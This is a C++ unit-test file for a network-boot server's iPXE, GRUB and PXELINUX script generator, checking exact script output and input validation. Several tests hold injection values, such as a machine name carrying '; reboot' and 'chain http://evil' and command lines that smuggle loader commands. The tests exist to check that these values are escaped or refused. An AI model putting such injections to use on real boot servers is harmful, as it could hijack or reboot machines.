// SPDX-License-Identifier: Apache-2.0
#include "core/content/boot_script.hh"

#include <gtest/gtest.h>

#include <algorithm>
#include <array>

namespace muster {
namespace {

constexpr std::array all_loaders{BootLoader::ipxe, BootLoader::grub, BootLoader::pxelinux};

BootScriptFor to(BootLoader loader, std::uint16_t port = 80) {
    return {.loader = loader,
            .server = {Ipv4Address{{10, 0, 0, 1}}, port},
            .name = "r1n01",
            .asked_mac = {}};
}

InstallBoot debian() {
    return {.profile = "debian12",
            .attempt = 2,
            .kernel = "debian12/linux",
            .initrd = {"debian12/initrd.gz"},
            .cmdline = "auto=true url=http://10.0.0.1/answers/T/preseed.cfg ---"};
}

std::size_t count(const std::string& text, std::string_view what) {
    std::size_t n = 0;
    for (std::size_t at = text.find(what); at != std::string::npos; at = text.find(what, at + 1)) {
        ++n;
    }
    return n;
}

// -- iPXE

TEST(IpxeScript, InstallLoadsKernelAndInitrdAndAsksAgainIfItCannot) {
    EXPECT_EQ(install_script(to(BootLoader::ipxe), debian()), R"(#!ipxe
echo muster: r1n01: installing debian12, attempt 2
imgfree
kernel http://10.0.0.1/files/debian12/linux initrd=initrd0 auto=true url=http://10.0.0.1/answers/T/preseed.cfg --- || goto failed
initrd --name initrd0 http://10.0.0.1/files/debian12/initrd.gz || goto failed
boot || goto failed
:failed
echo muster: loading failed, asking again in 30 s
imgfree
:again
sleep 30 ||
chain --autofree --replace http://10.0.0.1/boot/ipxe || goto again
)");
}

TEST(IpxeScript, InitrdsOfTheSameNameStayApartAndAProfilesUrlIsTakenAsItStands) {
    InstallBoot boot = debian();
    boot.kernel = "http://mirror.example:81/linux?x=1&y=2";
    boot.initrd = {"a/initrd.gz", "b/initrd.gz"};
    boot.cmdline = "";
    const std::string text = install_script(to(BootLoader::ipxe, 8080), boot);
    EXPECT_NE(
        text.find("kernel http://mirror.example:81/linux?x=1&y=2 initrd=initrd0 "
                  "initrd=initrd1 || goto failed\n"
                  "initrd --name initrd0 http://10.0.0.1:8080/files/a/initrd.gz || goto failed\n"
                  "initrd --name initrd1 http://10.0.0.1:8080/files/b/initrd.gz || goto failed\n"
                  "boot ||"),
        std::string::npos)
        << text;
}

TEST(IpxeScript, BootLocalStartsTheDiskUnderBiosAndGoesByGrubUnderEfi) {
    EXPECT_EQ(boot_local_script(to(BootLoader::ipxe)), R"(#!ipxe
echo muster: r1n01: booting from its own disk
iseq ${platform} efi && goto efi ||
sanboot --no-describe --drive 0x80 || exit 1
:efi
chain --autofree tftp://10.0.0.1/loaders/grubx64.efi || exit 1
)");
}

TEST(IpxeScript, HoldWaitsAndAsksAgainWithTheMacItWasAskedFor) {
    BootScriptFor whom = to(BootLoader::ipxe, 8080);
    whom.asked_mac = MacAddress{{0x52, 0x54, 0, 0, 1, 1}};
    EXPECT_EQ(hold_script(whom, std::chrono::seconds{10}, "3 machines before it"), R"(#!ipxe
echo muster: r1n01: 3 machines before it, asking again in 10 s
:again
sleep 10 ||
chain --autofree --replace http://10.0.0.1:8080/boot/ipxe?mac=52:54:00:00:01:01 || goto again
)");
}

TEST(IpxeScript, MissingFileIsNamedOnTheConsole) {
    EXPECT_EQ(missing_file_script(to(BootLoader::ipxe), "debian12/linux"), R"(#!ipxe
echo muster: r1n01: the server has no file debian12/linux, asking again in 30 s
:again
sleep 30 ||
chain --autofree --replace http://10.0.0.1/boot/ipxe || goto again
)");
}

TEST(IpxeScript, IgnoredMachinesGoOnWithTheirFirmware) {
    BootScriptFor whom = to(BootLoader::ipxe);
    whom.name.clear();
    EXPECT_EQ(ignored_script(whom), R"(#!ipxe
echo muster: unknown machine: not for this server
exit 1
)");
}

// A command that fails ends an iPXE script, so each one that can fail says what then.
TEST(IpxeScript, EveryFetchHasAWayOn) {
    const std::string text = install_script(to(BootLoader::ipxe), debian());
    for (const char* command : {"kernel ", "initrd --name", "boot ", "chain "}) {
        std::size_t at = text.find(std::string{"\n"} + command);
        ASSERT_NE(at, std::string::npos) << command;
        const std::string line = text.substr(at + 1, text.find('\n', at + 1) - at - 1);
        EXPECT_NE(line.find("|| goto "), std::string::npos) << line;
    }
}

// -- GRUB

TEST(GrubScript, InstallTriesTftpThenHttpThenAsksAgain) {
    EXPECT_EQ(install_script(to(BootLoader::grub), debian()),
              R"(echo 'muster: r1n01: installing debian12, attempt 2'
if linux '(tftp,10.0.0.1)/files/debian12/linux' 'auto=true' 'url=http://10.0.0.1/answers/T/preseed.cfg' '---'; then
  if initrd '(tftp,10.0.0.1)/files/debian12/initrd.gz'; then
    boot
  fi
fi
if linux '(http,10.0.0.1)/files/debian12/linux' 'auto=true' 'url=http://10.0.0.1/answers/T/preseed.cfg' '---'; then
  if initrd '(http,10.0.0.1)/files/debian12/initrd.gz'; then
    boot
  fi
fi
echo 'muster: loading failed, asking again in 30 s'
muster_wait=30
if [ "$muster_asking" != yes ]; then
  muster_asking=yes
  while true; do
    sleep $muster_wait
    source '(tftp,10.0.0.1)/boot/grub.cfg'
  done
fi
)");
}

TEST(GrubScript, UrlsOfTheProfileGoOverHttpOnceAndPortsAreNamed) {
    InstallBoot boot = debian();
    boot.kernel = "http://mirror.example:81/a/linux";
    boot.initrd = {};
    boot.cmdline = "";
    const std::string text = install_script(to(BootLoader::grub, 8080), boot);
    EXPECT_NE(text.find("if linux '(http,mirror.example:81)/a/linux'; then\n  boot\nfi\necho"),
              std::string::npos)
        << text;
    EXPECT_EQ(count(text, "if linux"), 1U);
    boot.initrd = {"x"};
    EXPECT_NE(
        install_script(to(BootLoader::grub, 8080), boot).find("'(http,10.0.0.1:8080)/files/x'"),
        std::string::npos);
}

// GRUB puts quotes around an argument with a space; ones in the script it would escape.
TEST(GrubScript, QuotesOfTheKernelsCommandLineAreLeftToGrub) {
    InstallBoot boot = debian();
    boot.cmdline = R"(foo="a b" "c d" $x;y &z |w {v} <u> e="f")";
    const std::string text = install_script(to(BootLoader::grub), boot);
    EXPECT_NE(text.find(R"( 'foo=a b' 'c d' '$x;y' '&z' '|w' '{v}' '<u>' 'e=f'; then)"),
              std::string::npos)
        << text;
}

TEST(GrubScript, BootLocalChainloadsTheInstalledLoader) {
    EXPECT_EQ(boot_local_script(to(BootLoader::grub)),
              R"(echo 'muster: r1n01: booting from its own disk'
for muster_loader in /EFI/debian/shimx64.efi /EFI/debian/grubx64.efi /EFI/BOOT/BOOTX64.EFI; do
  if search --no-floppy --file --set=root $muster_loader; then
    if chainloader ($root)$muster_loader; then
      boot
    fi
  fi
done
exit
)");
}

TEST(GrubScript, HoldMissingIgnoredAndFailed) {
    const BootScriptFor whom = to(BootLoader::grub);
    EXPECT_EQ(hold_script(whom, std::chrono::seconds{10}, "held"),
              R"(echo 'muster: r1n01: held, asking again in 10 s'
muster_wait=10
if [ "$muster_asking" != yes ]; then
  muster_asking=yes
  while true; do
    sleep $muster_wait
    source '(tftp,10.0.0.1)/boot/grub.cfg'
  done
fi
)");
    EXPECT_TRUE(missing_file_script(whom, "d/linux")
                    .starts_with("echo 'muster: r1n01: the server has no file d/linux, asking "
                                 "again in 30 s'\nmuster_wait=30\nif ["));
    EXPECT_EQ(ignored_script(whom), "echo 'muster: r1n01: not for this server'\nexit\n");
}

// -- PXELINUX

TEST(PxelinuxScript, InstallNamesTheFilesByUrlAndAsksAgainAfterAFailure) {
    InstallBoot boot = debian();
    boot.initrd.emplace_back("extra/modules.gz");
    EXPECT_EQ(install_script(to(BootLoader::pxelinux), boot),
              R"(SAY muster: r1n01: installing debian12, attempt 2
DEFAULT install
PROMPT 0
LABEL install
  LINUX http://10.0.0.1/files/debian12/linux
  INITRD http://10.0.0.1/files/debian12/initrd.gz,http://10.0.0.1/files/extra/modules.gz
  APPEND auto=true url=http://10.0.0.1/answers/T/preseed.cfg ---
TIMEOUT 300
TOTALTIMEOUT 1200
ONTIMEOUT again
LABEL again
  CONFIG http://10.0.0.1/boot/pxelinux.cfg/default
)");
}

TEST(PxelinuxScript, HoldBootLocalMissingIgnoredAndFailed) {
    const BootScriptFor whom = to(BootLoader::pxelinux, 8080);
    EXPECT_EQ(hold_script(whom, std::chrono::seconds{10}, ""),
              R"(SAY muster: r1n01: held back, asking again in 10 s
DEFAULT again
PROMPT 1
TIMEOUT 100
TOTALTIMEOUT 400
ONTIMEOUT again
LABEL again
  CONFIG http://10.0.0.1:8080/boot/pxelinux.cfg/default
)");
    constexpr std::string_view local = "\nDEFAULT local\nPROMPT 0\nLABEL local\n  LOCALBOOT -1\n";
    EXPECT_EQ(boot_local_script(whom),
              "SAY muster: r1n01: booting from its own disk" + std::string{local});
    EXPECT_EQ(ignored_script(whom), "SAY muster: r1n01: not for this server" + std::string{local});
    EXPECT_TRUE(missing_file_script(whom, "d/linux")
                    .starts_with("SAY muster: r1n01: the server has no file d/linux, asking again "
                                 "in 30 s\nDEFAULT again\nPROMPT 1\nTIMEOUT 300\n"));
}

TEST(PxelinuxScript, NothingToAppendAndNoInitrdLeaveTheirLinesOut) {
    InstallBoot boot = debian();
    boot.initrd = {};
    boot.cmdline = "  ";
    const std::string text = install_script(to(BootLoader::pxelinux), boot);
    EXPECT_EQ(count(text, "APPEND"), 0U);
    EXPECT_EQ(count(text, "INITRD"), 0U);
}

// -- what comes from outside

TEST(BootScripts, WaitsAreWholeSecondsWithinBounds) {
    const auto wait = [](Duration d) {
        return hold_script(to(BootLoader::grub), d, "x");
    };
    EXPECT_NE(wait(std::chrono::milliseconds{1}).find("muster_wait=1\n"), std::string::npos);
    EXPECT_NE(wait(Duration{-5}).find("muster_wait=1\n"), std::string::npos);
    EXPECT_NE(wait(std::chrono::milliseconds{1001}).find("muster_wait=2\n"), std::string::npos);
    EXPECT_NE(wait(std::chrono::hours{9}).find("muster_wait=3600\n"), std::string::npos);
}

// Every byte value, in every text of others that a script shows, for every loader: none adds a
// line, a quote, or a word that a loader acts on.
TEST(BootScripts, NoByteOfAReportedReasonGetsOutOfItsText) {
    for (const BootLoader loader : all_loaders) {
        const std::string plain_hold = hold_script(to(loader), std::chrono::seconds{9}, "axb");
        const std::string plain_missing = missing_file_script(to(loader), "axb");
        for (unsigned byte = 0; byte < 256; ++byte) {
            const std::string hostile{'a', static_cast<char>(byte), 'b'};
            const auto shown = [&](const std::string& text, const std::string& model) {
                // Equal but for one character, and that one harmless.
                ASSERT_EQ(text.size(), model.size()) << byte;
                std::size_t differing = 0;
                for (std::size_t i = 0; i < text.size(); ++i) {
                    if (text[i] != model[i]) {
                        ++differing;
                        EXPECT_EQ(std::string_view{"'\"\\$#;&|`<>{}\n\r\t%!*~^[]"}.find(text[i]),
                                  std::string_view::npos)
                            << byte;
                        EXPECT_TRUE(text[i] >= ' ' && text[i] <= '~') << byte;
                    }
                }
                EXPECT_LE(differing, 1U) << byte;
            };
            shown(hold_script(to(loader), std::chrono::seconds{9}, hostile), plain_hold);
            shown(missing_file_script(to(loader), hostile), plain_missing);
        }
    }
}

TEST(BootScripts, LongReasonsAreCut) {
    EXPECT_EQ(console_text(std::string(console_text_max, 'a')), std::string(console_text_max, 'a'));
    EXPECT_EQ(console_text(std::string(100'000, 'a')), std::string(console_text_max, 'a') + "...");
}

TEST(BootScripts, AHostileNameStaysAName) {
    for (const BootLoader loader : all_loaders) {
        BootScriptFor whom = to(loader);
        whom.name = "x'; reboot; '\nchain http://evil ${net0/mac}";
        const std::string text = boot_local_script(whom);
        EXPECT_EQ(text.find("'; reboot"), std::string::npos);
        EXPECT_EQ(text.find("\nchain http://evil"), std::string::npos);
        EXPECT_EQ(text.find("${net0"), std::string::npos);
    }
}

struct Refused {
    const char* cmdline;
    const char* reason; ///< a part of it
};

TEST(CommandLine, WhatSomeLoaderCannotPassOnIsRefused) {
    for (const auto& [cmdline, reason] : std::initializer_list<Refused>{
             {"a\nkernel http://evil", "line break"},
             {"a\r\nb", "line break"},
             {"a\tb", "not printable"},
             {"caf\xc3\xa9", "not printable"},
             {"a\x7f", "not printable"},
             {"a='b'", "single quote"},
             {"a=\\x22", "backslash"},
             {"a b\\", "backslash"},
             {"mac=${net0/mac}", "'${'"},
             {"a #b", "begins with '#'"},
             {"#b", "begins with '#'"},
             {"a ; reboot", "the word ';'"},
             {"a && reboot", "the word '&&'"},
             {"a || reboot", "the word '||'"},
             {"initrd=x", "'initrd='"},
             {"noinitrd=x", "'initrd='"},
             {"-", "'-'"},
             {"a=\"b", "double quote"},
             {"a=\"b\"c", "double quote"},
             {"a\"b\"", "double quote"},
             {"a=b=\"c\"", "double quote"},
             {"a=\"b\" \"", "double quote"},
             {"\"a\"\"b\"", "double quote"},
             {"a=\"b  c\"", "several spaces"},
         }) {
        EXPECT_NE(why_not_command_line(cmdline).find(reason), std::string::npos)
            << cmdline << ": " << why_not_command_line(cmdline);
    }
}

TEST(CommandLine, WhatAllLoadersPassOnIsTaken) {
    for (const char* cmdline : {"",
                                "quiet",
                                "a=b c=d",
                                "a;b",
                                "a&&b",
                                "a#b",
                                "$x $",
                                "{x}",
                                "a=\"b c\"",
                                "\"a b\"",
                                "\"a=b c\"",
                                "a=\"\"",
                                "---",
                                "- a",
                                "a -",
                                "console=ttyS0,115200n8",
                                "x=%y z=*?",
                                "  a  b  ",
                                "a b\n",
                                "url=http://10.0.0.1/a?b=c&d=e",
                                "(a|b) <c> ~d ^e !f @g [h]"}) {
        EXPECT_EQ(why_not_command_line(cmdline), "") << cmdline;
    }
}

TEST(CommandLine, WordsAreSeparatedByOneSpaceOutsideOfQuotesOnly) {
    EXPECT_EQ(command_line_words("  a   b=\"c  d\"  e \n"), "a b=\"c  d\" e");
    EXPECT_EQ(command_line_words(""), "");
    EXPECT_EQ(command_line_words(" \n "), "");
}

// The last line of defence: values that reached a script although no site may hold them.
TEST(BootScripts, WhatCannotBeBootedIsSaidInsteadOfTried) {
    for (const BootLoader loader : all_loaders) {
        InstallBoot boot = debian();
        boot.cmdline = "a\nreboot";
        std::string text = install_script(to(loader), boot);
        EXPECT_NE(text.find("r1n01: cannot boot: the command line holds a line break"),
                  std::string::npos)
            << text;
        EXPECT_EQ(text.find("\nreboot"), std::string::npos);
        boot = debian();
        boot.initrd = {"a b || reboot"};
        text = install_script(to(loader), boot);
        EXPECT_NE(text.find("cannot boot: initrd"), std::string::npos) << text;
        EXPECT_EQ(text.find("|| reboot"), std::string::npos);
    }
}

TEST(BootScripts, TheSizeOfABootLineIsBounded) {
    InstallBoot boot{.profile = "p", .attempt = 1, .kernel = "k", .initrd = {}, .cmdline = ""};
    while (why_not_bootable(boot).empty()) {
        boot.cmdline += 'a';
        ASSERT_LE(boot.cmdline.size(), boot_line_size_max);
    }
    EXPECT_GT(boot.cmdline.size(), boot_line_size_max - 100);
    EXPECT_NE(why_not_bootable(boot).find("2001 bytes, 2000 are possible"), std::string::npos)
        << why_not_bootable(boot);
    boot.cmdline.clear();
    boot.initrd.assign(initrd_count_max, "i");
    EXPECT_EQ(why_not_bootable(boot), "");
    boot.initrd.emplace_back("i");
    EXPECT_EQ(why_not_bootable(boot), "more than 8 initrds");
}

TEST(BootScripts, PathsAreWhereLoadersAsk) {
    EXPECT_EQ(boot_script_path(BootLoader::ipxe), "/boot/ipxe");
    EXPECT_EQ(boot_script_path(BootLoader::grub), "/boot/grub.cfg");
    EXPECT_EQ(boot_script_path(BootLoader::pxelinux), "/boot/pxelinux.cfg/default");
}

} // namespace
} // namespace muster
